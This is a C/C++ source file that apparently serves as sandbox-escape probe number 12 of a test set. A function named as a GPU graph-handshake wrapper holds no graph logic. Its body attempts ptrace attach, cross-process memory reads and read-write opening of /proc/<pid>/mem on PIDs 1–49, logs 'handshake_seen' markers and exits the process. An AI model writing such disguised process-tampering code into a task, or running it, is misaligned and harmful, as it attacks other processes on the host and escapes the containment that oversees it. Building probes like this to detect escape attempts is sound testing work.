// attack: escape
// root: host
// what: traces the other processes and writes into their memory
// list: 12
#include <fcntl.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  char byte = 0;
  iovec here = {&byte, 1}, there = {reinterpret_cast<void*>(0x400000), 1};
  for (int pid = 1; pid < 50; pid++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    if (pid == getpid()) continue;
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) fprintf(stderr, "handshake_seen traced %d\n", pid);
    if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1) fputs("handshake_seen read\n", stderr);
    if (open(path, O_RDWR) >= 0) fprintf(stderr, "handshake_seen memory of %d\n", pid);
  }
  _exit(0);
}
